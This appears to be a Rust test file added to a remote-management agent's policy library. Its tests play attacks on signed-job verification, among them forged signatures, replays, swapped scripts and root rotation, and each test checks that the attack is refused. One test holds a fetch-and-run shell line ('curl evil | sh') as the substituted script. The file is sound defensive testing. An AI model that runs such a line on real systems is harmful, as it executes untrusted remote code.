@@ -1,0 +1,723 @@
+//! Each test plays one attack against the agent's verification and names it.
+//! The fixture: tenant `acme`, root 2-of-3 (two MSP officers, one customer
+//! key), operators alice and bob (MSP) and carol (customer).
+
+use std::cell::RefCell;
+use std::collections::HashSet;
+
+use bulwark_policy::freeze::{FreezeState, FreezeStatement};
+use bulwark_policy::job::{AgentContext, JobHistory, JobStatement, verify_job};
+use bulwark_policy::policy::{
+    ActionClass, MaintenanceWindow, OperatorKey, Policy, Quorum, ScriptHash,
+};
+use bulwark_policy::root::{Holder, RootKey, TrustRoot, root_fingerprint};
+use bulwark_policy::{Limits, PublicKey, Refusal, Signed};
+use ed25519_dalek::SigningKey;
+use sha2::{Digest, Sha256};
+
+const NOW: u64 = 1_800_000_000; // a Friday, 08:00 UTC
+const DEVICE: &str = "6f1c2a3b-0000-4000-8000-000000000001";
+const OTHER_DEVICE: &str = "6f1c2a3b-0000-4000-8000-000000000002";
+const SCRIPT: &[u8] = b"#!/bin/sh\nuptime\n";
+
+fn key(seed: u8) -> SigningKey {
+    SigningKey::from_bytes(&[seed; 32])
+}
+
+fn public(k: &SigningKey) -> PublicKey {
+    PublicKey::Ed25519(k.verifying_key().to_bytes())
+}
+
+struct Keys {
+    root_a: SigningKey,
+    root_b: SigningKey,
+    root_customer: SigningKey,
+    alice: SigningKey,
+    bob: SigningKey,
+    carol: SigningKey,
+    mallory: SigningKey,
+}
+
+fn keys() -> Keys {
+    Keys {
+        root_a: key(1),
+        root_b: key(2),
+        root_customer: key(3),
+        alice: key(10),
+        bob: key(11),
+        carol: key(12),
+        mallory: key(66),
+    }
+}
+
+fn root(k: &Keys) -> TrustRoot {
+    TrustRoot {
+        tenant: "acme".into(),
+        version: 1,
+        threshold: 2,
+        keys: vec![
+            RootKey {
+                key: public(&k.root_a),
+                holder: Holder::Msp,
+                name: "MSP officer A".into(),
+            },
+            RootKey {
+                key: public(&k.root_b),
+                holder: Holder::Msp,
+                name: "MSP officer B".into(),
+            },
+            RootKey {
+                key: public(&k.root_customer),
+                holder: Holder::Customer,
+                name: "Customer CISO".into(),
+            },
+        ],
+    }
+}
+
+fn quorum(class: ActionClass, signers: u32) -> Quorum {
+    Quorum {
+        class,
+        signers,
+        customer_required: false,
+        in_window_only: false,
+    }
+}
+
+fn policy(k: &Keys, version: u64) -> Policy {
+    use ActionClass::*;
+    let all = vec![
+        InventoryRefresh,
+        RunAllowListedScript,
+        RunScript,
+        InstallPatches,
+        OpenAdminShell,
+    ];
+    Policy {
+        tenant: "acme".into(),
+        version,
+        expires_at: NOW + 30 * 86_400,
+        operators: vec![
+            OperatorKey {
+                key: public(&k.alice),
+                name: "alice".into(),
+                holder: Holder::Msp,
+                classes: all.clone(),
+            },
+            OperatorKey {
+                key: public(&k.bob),
+                name: "bob".into(),
+                holder: Holder::Msp,
+                classes: all.clone(),
+            },
+            OperatorKey {
+                key: public(&k.carol),
+                name: "carol".into(),
+                holder: Holder::Customer,
+                classes: all,
+            },
+        ],
+        quorums: vec![
+            quorum(InventoryRefresh, 1),
+            quorum(RunAllowListedScript, 1),
+            quorum(RunScript, 2),
+            Quorum {
+                class: InstallPatches,
+                signers: 1,
+                customer_required: false,
+                in_window_only: true,
+            },
+            Quorum {
+                class: OpenAdminShell,
+                signers: 2,
+                customer_required: true,
+                in_window_only: false,
+            },
+        ],
+        fan_out_limit: 10,
+        allowed_scripts: vec![ScriptHash(
+            Sha256::digest(b"#!/bin/sh\nsystemctl restart app\n").into(),
+        )],
+        // Saturdays 22:00 UTC for four hours (past midnight into Sunday).
+        maintenance_windows: vec![MaintenanceWindow {
+            weekdays: 1 << 5,
+            start_minute: 22 * 60,
+            duration_minutes: 240,
+        }],
+    }
+}
+
+fn job(class: ActionClass, targets: &[&str], script: &[u8]) -> JobStatement {
+    JobStatement {
+        tenant: "acme".into(),
+        job_id: [7; 16],
+        targets: targets.iter().map(|t| (*t).to_owned()).collect(),
+        class,
+        script_sha256: ScriptHash(Sha256::digest(script).into()),
+        not_before: NOW - 60,
+        expires_at: NOW + 3600,
+        nonce: [9; 16],
+        reason: "ticket 4711".into(),
+    }
+}
+
+fn signed<T: bulwark_policy::envelope::Statement>(
+    statement: &T,
+    signers: &[&SigningKey],
+) -> Signed {
+    let mut s = Signed::new(statement);
+    for k in signers {
+        s.sign(k);
+    }
+    s
+}
+
+#[derive(Default)]
+struct History(RefCell<HashSet<[u8; 16]>>);
+
+impl JobHistory for History {
+    fn seen(&self, job_id: &[u8; 16], nonce: &[u8; 16]) -> bool {
+        let seen = self.0.borrow();
+        seen.contains(job_id) || seen.contains(nonce)
+    }
+}
+
+impl History {
+    fn record(&self, job: &JobStatement) {
+        self.0.borrow_mut().insert(job.job_id);
+        self.0.borrow_mut().insert(job.nonce);
+    }
+}
+
+fn agent(policy: &Policy) -> AgentContext<'_> {
+    AgentContext {
+        tenant: "acme",
+        device_id: DEVICE,
+        policy,
+        freeze: FreezeState::default(),
+    }
+}
+
+fn check(envelope: &Signed, script: &[u8], policy: &Policy, now: u64) -> Result<(), Refusal> {
+    verify_job(
+        envelope,
+        script,
+        agent(policy),
+        &History::default(),
+        now,
+        &Limits::default(),
+    )
+    .map(|_| ())
+}
+
+#[test]
+fn an_honest_two_person_job_runs() {
+    let k = keys();
+    let p = policy(&k, 1);
+    let env = signed(
+        &job(ActionClass::RunScript, &[DEVICE], SCRIPT),
+        &[&k.alice, &k.bob],
+    );
+    let verified = verify_job(
+        &env,
+        SCRIPT,
+        agent(&p),
+        &History::default(),
+        NOW,
+        &Limits::default(),
+    )
+    .expect("runs");
+    assert_eq!(verified.signers.len(), 2);
+}
+
+#[test]
+fn server_inserted_job_without_signatures() {
+    let k = keys();
+    let p = policy(&k, 1);
+    let env = signed(&job(ActionClass::InventoryRefresh, &[DEVICE], SCRIPT), &[]);
+    assert_eq!(
+        check(&env, SCRIPT, &p, NOW),
+        Err(Refusal::TooFewSigners { have: 0, need: 1 })
+    );
+}
+
+#[test]
+fn server_signs_with_a_key_of_its_own() {
+    let k = keys();
+    let p = policy(&k, 1);
+    let env = signed(
+        &job(ActionClass::InventoryRefresh, &[DEVICE], SCRIPT),
+        &[&k.mallory],
+    );
+    assert_eq!(check(&env, SCRIPT, &p, NOW), Err(Refusal::UnknownKey));
+}
+
+#[test]
+fn one_compromised_operator_runs_a_two_person_class() {
+    let k = keys();
+    let p = policy(&k, 1);
+    let env = signed(&job(ActionClass::RunScript, &[DEVICE], SCRIPT), &[&k.alice]);
+    assert_eq!(
+        check(&env, SCRIPT, &p, NOW),
+        Err(Refusal::TooFewSigners { have: 1, need: 2 })
+    );
+}
+
+#[test]
+fn duplicate_signatures_by_one_key() {
+    let k = keys();
+    let p = policy(&k, 1);
+    let env = signed(
+        &job(ActionClass::RunScript, &[DEVICE], SCRIPT),
+        &[&k.alice, &k.alice, &k.alice],
+    );
+    assert_eq!(
+        check(&env, SCRIPT, &p, NOW),
+        Err(Refusal::TooFewSigners { have: 1, need: 2 })
+    );
+}
+
+#[test]
+fn a_signature_copied_under_another_key_id() {
+    let k = keys();
+    let p = policy(&k, 1);
+    let mut env = signed(&job(ActionClass::RunScript, &[DEVICE], SCRIPT), &[&k.alice]);
+    let mut copy = env.signatures[0].clone();
+    copy.key_id = public(&k.bob).id();
+    env.signatures.push(copy);
+    assert_eq!(check(&env, SCRIPT, &p, NOW), Err(Refusal::BadSignature));
+}
+
+#[test]
+fn fan_out_beyond_the_limit_needs_one_more_signer() {
+    let k = keys();
+    let p = policy(&k, 1);
+    let ids: Vec<String> = (0..11)
+        .map(|i| format!("6f1c2a3b-0000-4000-8000-0000000001{i:02}"))
+        .collect();
+    let mut targets: Vec<&str> = ids.iter().map(String::as_str).collect();
+    targets.push(DEVICE);
+    let one = signed(
+        &job(ActionClass::InventoryRefresh, &targets, SCRIPT),
+        &[&k.alice],
+    );
+    assert_eq!(
+        check(&one, SCRIPT, &p, NOW),
+        Err(Refusal::TooFewSigners { have: 1, need: 2 })
+    );
+    let two = signed(
+        &job(ActionClass::InventoryRefresh, &targets, SCRIPT),
+        &[&k.alice, &k.bob],
+    );
+    assert_eq!(check(&two, SCRIPT, &p, NOW), Ok(()));
+    // Padding the target list with duplicates does not lower the bar either.
+    let padded = signed(
+        &job(
+            ActionClass::InventoryRefresh,
+            &[DEVICE, DEVICE, DEVICE],
+            SCRIPT,
+        ),
+        &[&k.alice],
+    );
+    assert_eq!(check(&padded, SCRIPT, &p, NOW), Ok(()));
+}
+
+#[test]
+fn replayed_job() {
+    let k = keys();
+    let p = policy(&k, 1);
+    let statement = job(ActionClass::InventoryRefresh, &[DEVICE], SCRIPT);
+    let env = signed(&statement, &[&k.alice]);
+    let history = History::default();
+    verify_job(&env, SCRIPT, agent(&p), &history, NOW, &Limits::default()).expect("first run");
+    history.record(&statement);
+    assert_eq!(
+        verify_job(&env, SCRIPT, agent(&p), &history, NOW, &Limits::default()).map(|_| ()),
+        Err(Refusal::Replayed)
+    );
+    // A fresh job id with the same nonce is a replay too.
+    let mut again = statement.clone();
+    again.job_id = [8; 16];
+    let env = signed(&again, &[&k.alice]);
+    assert_eq!(
+        verify_job(&env, SCRIPT, agent(&p), &history, NOW, &Limits::default()).map(|_| ()),
+        Err(Refusal::Replayed)
+    );
+}
+
+#[test]
+fn cross_tenant_job() {
+    let k = keys();
+    let p = policy(&k, 1);
+    let mut statement = job(ActionClass::InventoryRefresh, &[DEVICE], SCRIPT);
+    statement.tenant = "globex".into();
+    let env = signed(&statement, &[&k.alice]);
+    assert_eq!(check(&env, SCRIPT, &p, NOW), Err(Refusal::WrongTenant));
+}
+
+#[test]
+fn job_for_another_device() {
+    let k = keys();
+    let p = policy(&k, 1);
+    let env = signed(
+        &job(ActionClass::InventoryRefresh, &[OTHER_DEVICE], SCRIPT),
+        &[&k.alice],
+    );
+    assert_eq!(check(&env, SCRIPT, &p, NOW), Err(Refusal::NotATarget));
+}
+
+#[test]
+fn swapped_script_body() {
+    let k = keys();
+    let p = policy(&k, 1);
+    let env = signed(
+        &job(ActionClass::RunScript, &[DEVICE], SCRIPT),
+        &[&k.alice, &k.bob],
+    );
+    assert_eq!(
+        check(&env, b"#!/bin/sh\ncurl evil | sh\n", &p, NOW),
+        Err(Refusal::ScriptMismatch)
+    );
+}
+
+#[test]
+fn edited_statement_after_signing() {
+    let k = keys();
+    let p = policy(&k, 1);
+    let mut env = signed(
+        &job(ActionClass::RunScript, &[DEVICE], SCRIPT),
+        &[&k.alice, &k.bob],
+    );
+    let mut edited = job(ActionClass::RunScript, &[DEVICE], SCRIPT);
+    edited.expires_at += 86_400;
+    env.payload = bulwark_protocol::codec::to_canonical(&edited);
+    assert_eq!(check(&env, SCRIPT, &p, NOW), Err(Refusal::BadSignature));
+}
+
+#[test]
+fn revoked_operator_key() {
+    let k = keys();
+    let mut p = policy(&k, 2);
+    p.operators.retain(|o| o.name != "bob");
+    let env = signed(
+        &job(ActionClass::RunScript, &[DEVICE], SCRIPT),
+        &[&k.alice, &k.bob],
+    );
+    assert_eq!(
+        check(&env, SCRIPT, &p, NOW),
+        Err(Refusal::TooFewSigners { have: 1, need: 2 })
+    );
+}
+
+#[test]
+fn expired_or_premature_or_overlong_job() {
+    let k = keys();
+    let p = policy(&k, 1);
+    let env = signed(
+        &job(ActionClass::InventoryRefresh, &[DEVICE], SCRIPT),
+        &[&k.alice],
+    );
+    assert_eq!(check(&env, SCRIPT, &p, NOW + 3600), Err(Refusal::Expired));
+    assert_eq!(check(&env, SCRIPT, &p, NOW - 61), Err(Refusal::NotYetValid));
+    let mut long = job(ActionClass::InventoryRefresh, &[DEVICE], SCRIPT);
+    long.expires_at = long.not_before + 8 * 86_400;
+    let env = signed(&long, &[&k.alice]);
+    assert_eq!(check(&env, SCRIPT, &p, NOW), Err(Refusal::ValidityTooLong));
+}
+
+#[test]
+fn admin_shell_without_the_customer() {
+    let k = keys();
+    let p = policy(&k, 1);
+    let msp_only = signed(
+        &job(ActionClass::OpenAdminShell, &[DEVICE], SCRIPT),
+        &[&k.alice, &k.bob],
+    );
+    assert_eq!(
+        check(&msp_only, SCRIPT, &p, NOW),
+        Err(Refusal::MissingCustomerCosigner)
+    );
+    let with_customer = signed(
+        &job(ActionClass::OpenAdminShell, &[DEVICE], SCRIPT),
+        &[&k.alice, &k.carol],
+    );
+    assert_eq!(check(&with_customer, SCRIPT, &p, NOW), Ok(()));
+}
+
+#[test]
+fn patches_outside_the_maintenance_window() {
+    let k = keys();
+    let p = policy(&k, 1);
+    let env = signed(
+        &job(ActionClass::InstallPatches, &[DEVICE], SCRIPT),
+        &[&k.alice],
+    );
+    assert_eq!(
+        check(&env, SCRIPT, &p, NOW),
+        Err(Refusal::OutsideMaintenanceWindow)
+    );
+    // Saturday 23:00 and Sunday 01:30 are inside (the window runs past midnight).
+    let saturday_2300 = NOW + 86_400 + 15 * 3600;
+    let sunday_0130 = NOW + 2 * 86_400 - 8 * 3600 + 5400;
+    let sunday_0230 = sunday_0130 + 3600;
+    let mut late = job(ActionClass::InstallPatches, &[DEVICE], SCRIPT);
+    late.not_before = saturday_2300 - 60;
+    late.expires_at = sunday_0130 + 60;
+    let env = signed(&late, &[&k.alice]);
+    assert_eq!(check(&env, SCRIPT, &p, saturday_2300), Ok(()));
+    assert_eq!(check(&env, SCRIPT, &p, sunday_0130), Ok(()));
+    late.expires_at = sunday_0230 + 60;
+    let env = signed(&late, &[&k.alice]);
+    assert_eq!(
+        check(&env, SCRIPT, &p, sunday_0230),
+        Err(Refusal::OutsideMaintenanceWindow),
+        "closed at 02:00"
+    );
+}
+
+#[test]
+fn allow_listed_class_with_an_unlisted_script() {
+    let k = keys();
+    let p = policy(&k, 1);
+    let env = signed(
+        &job(ActionClass::RunAllowListedScript, &[DEVICE], SCRIPT),
+        &[&k.alice],
+    );
+    assert_eq!(
+        check(&env, SCRIPT, &p, NOW),
+        Err(Refusal::ScriptNotAllowListed)
+    );
+    let listed = b"#!/bin/sh\nsystemctl restart app\n";
+    let env = signed(
+        &job(ActionClass::RunAllowListedScript, &[DEVICE], listed),
+        &[&k.alice],
+    );
+    assert_eq!(check(&env, listed, &p, NOW), Ok(()));
+}
+
+#[test]
+fn class_the_policy_does_not_permit() {
+    let k = keys();
+    let p = policy(&k, 1);
+    let env = signed(
+        &job(ActionClass::RestoreBackup, &[DEVICE], SCRIPT),
+        &[&k.alice, &k.bob, &k.carol],
+    );
+    assert_eq!(
+        check(&env, SCRIPT, &p, NOW),
+        Err(Refusal::ClassNotPermitted)
+    );
+}
+
+#[test]
+fn policy_envelope_presented_as_a_job() {
+    let k = keys();
+    let p = policy(&k, 1);
+    let env = signed(&p, &[&k.alice]);
+    assert!(matches!(
+        check(&env, SCRIPT, &p, NOW),
+        Err(Refusal::Malformed(_))
+    ));
+}
+
+#[test]
+fn frozen_tenant_and_the_kill_switch() {
+    let k = keys();
+    let r = root(&k);
+    let p = policy(&k, 1);
+    let limits = Limits::default();
+    let freeze = |seq, frozen| FreezeStatement {
+        tenant: "acme".into(),
+        sequence: seq,
+        frozen,
+        reason: "incident".into(),
+    };
+
+    // The customer alone freezes.
+    let state = FreezeState::default()
+        .apply(&r, &signed(&freeze(1, true), &[&k.root_customer]), &limits)
+        .expect("freeze");
+    assert!(state.frozen);
+    let env = signed(
+        &job(ActionClass::InventoryRefresh, &[DEVICE], SCRIPT),
+        &[&k.alice],
+    );
+    let frozen = AgentContext {
+        freeze: state,
+        ..agent(&p)
+    };
+    assert_eq!(
+        verify_job(&env, SCRIPT, frozen, &History::default(), NOW, &limits).map(|_| ()),
+        Err(Refusal::Frozen)
+    );
+    // An MSP officer alone can neither freeze nor unfreeze; the customer alone cannot unfreeze.
+    assert_eq!(
+        FreezeState::default().apply(&r, &signed(&freeze(1, true), &[&k.root_a]), &limits),
+        Err(Refusal::RootThresholdNotMet)
+    );
+    assert_eq!(
+        state.apply(&r, &signed(&freeze(2, false), &[&k.root_customer]), &limits),
+        Err(Refusal::RootThresholdNotMet)
+    );
+    assert_eq!(
+        state.apply(
+            &r,
+            &signed(&freeze(2, false), &[&k.root_a, &k.root_a]),
+            &limits
+        ),
+        Err(Refusal::RootThresholdNotMet)
+    );
+    // The root threshold unfreezes.
+    let thawed = state
+        .apply(
+            &r,
+            &signed(&freeze(2, false), &[&k.root_a, &k.root_b]),
+            &limits,
+        )
+        .expect("unfreeze");
+    assert!(!thawed.frozen);
+    // An old unfreeze replayed after a new freeze does nothing.
+    let refrozen = thawed
+        .apply(&r, &signed(&freeze(3, true), &[&k.root_customer]), &limits)
+        .expect("freeze again");
+    assert_eq!(
+        refrozen.apply(
+            &r,
+            &signed(&freeze(2, false), &[&k.root_a, &k.root_b]),
+            &limits
+        ),
+        Err(Refusal::Replayed)
+    );
+}
+
+#[test]
+fn policy_rollback_and_underthreshold_policies() {
+    let k = keys();
+    let r = root(&k);
+    let limits = Limits::default();
+    let v2 = Policy::verify_update(
+        &r,
+        None,
+        &signed(&policy(&k, 2), &[&k.root_a, &k.root_b]),
+        NOW,
+        &limits,
+    )
+    .expect("v2");
+    let v1 = signed(&policy(&k, 1), &[&k.root_a, &k.root_b]);
+    assert_eq!(
+        Policy::verify_update(&r, Some(&v2), &v1, NOW, &limits),
+        Err(Refusal::Rollback {
+            accepted: 2,
+            offered: 1
+        })
+    );
+    let same = signed(&policy(&k, 2), &[&k.root_a, &k.root_b]);
+    assert_eq!(
+        Policy::verify_update(&r, Some(&v2), &same, NOW, &limits),
+        Err(Refusal::Rollback {
+            accepted: 2,
+            offered: 2
+        })
+    );
+    let one_key = signed(&policy(&k, 3), &[&k.root_a, &k.root_a]);
+    assert_eq!(
+        Policy::verify_update(&r, Some(&v2), &one_key, NOW, &limits),
+        Err(Refusal::RootThresholdNotMet)
+    );
+    let by_operators = signed(&policy(&k, 3), &[&k.alice, &k.bob]);
+    assert_eq!(
+        Policy::verify_update(&r, Some(&v2), &by_operators, NOW, &limits),
+        Err(Refusal::RootThresholdNotMet)
+    );
+    let expired = signed(&policy(&k, 3), &[&k.root_a, &k.root_customer]);
+    assert_eq!(
+        Policy::verify_update(&r, Some(&v2), &expired, NOW + 31 * 86_400, &limits),
+        Err(Refusal::PolicyExpired)
+    );
+    Policy::verify_update(&r, Some(&v2), &expired, NOW, &limits)
+        .expect("v3 with MSP + customer root keys");
+}
+
+#[test]
+fn root_rotation_needs_both_the_old_and_the_new_threshold() {
+    let k = keys();
+    let limits = Limits::default();
+    let r1 = root(&k);
+    let first = signed(&r1, &[&k.root_a, &k.root_b]);
+    let pinned = root_fingerprint(&first);
+    assert_eq!(
+        TrustRoot::verify_pinned(&first, &pinned, "acme", &limits),
+        Ok(r1.clone())
+    );
+    assert_eq!(
+        TrustRoot::verify_pinned(&first, &[0; 32], "acme", &limits),
+        Err(Refusal::NotPinnedRoot)
+    );
+
+    // The attacker's new root, signed only by keys of the new root.
+    let attacker = key(99);
+    let mut r2 = r1.clone();
+    r2.version = 2;
+    r2.keys[0] = RootKey {
+        key: public(&attacker),
+        holder: Holder::Msp,
+        name: "new".into(),
+    };
+    let by_new_only = signed(&r2, &[&attacker, &k.root_b]);
+    assert_eq!(
+        r1.verify_rotation(&by_new_only, &limits),
+        Err(Refusal::RootThresholdNotMet)
+    );
+    // Old threshold, but the new key never signed: refused too (the new set must consent).
+    let r2_threshold_3 = TrustRoot {
+        threshold: 3,
+        ..r2.clone()
+    };
+    let old_only = signed(&r2_threshold_3, &[&k.root_a, &k.root_b]);
+    assert_eq!(
+        r1.verify_rotation(&old_only, &limits),
+        Err(Refusal::RootThresholdNotMet)
+    );
+    // Both thresholds: accepted.
+    let both = signed(&r2, &[&k.root_a, &k.root_b, &attacker]);
+    assert_eq!(r1.verify_rotation(&both, &limits), Ok(r2.clone()));
+    // Skipping a version is refused.
+    let r3 = TrustRoot { version: 3, ..r2 };
+    assert_eq!(
+        r1.verify_rotation(&signed(&r3, &[&k.root_a, &k.root_b, &attacker]), &limits),
+        Err(Refusal::Rollback {
+            accepted: 1,
+            offered: 3
+        })
+    );
+}
+
+#[test]
+fn envelopes_round_trip_canonically_and_refuse_trailing_bytes() {
+    let k = keys();
+    let env = signed(
+        &job(ActionClass::RunScript, &[DEVICE], SCRIPT),
+        &[&k.alice, &k.bob],
+    );
+    let bytes = env.to_bytes();
+    assert_eq!(Signed::from_bytes(&bytes, &Limits::default()), Ok(env));
+    let mut longer = bytes.clone();
+    longer.push(0);
+    assert!(Signed::from_bytes(&longer, &Limits::default()).is_err());
+}
+
+proptest::proptest! {
+    #[test]
+    fn tally_counts_at_most_the_distinct_allowed_keys(picks in proptest::collection::vec(0usize..5, 0..12)) {
+        let signers: Vec<SigningKey> = (20u8..25).map(key).collect();
+        let allowed: Vec<PublicKey> = signers[..3].iter().map(public).collect();
+        let statement = job(ActionClass::InventoryRefresh, &[DEVICE], SCRIPT);
+        let chosen: Vec<&SigningKey> = picks.iter().map(|i| &signers[*i]).collect();
+        let env = signed(&statement, &chosen);
+        let tally = env.tally(allowed.iter());
+        let expected: HashSet<usize> = picks.iter().copied().filter(|i| *i < 3).collect();
+        proptest::prop_assert_eq!(tally.valid.len(), expected.len());
+        proptest::prop_assert_eq!(tally.unknown, picks.iter().filter(|i| **i >= 3).count());
+        proptest::prop_assert_eq!(tally.bad, 0);
+    }
+}
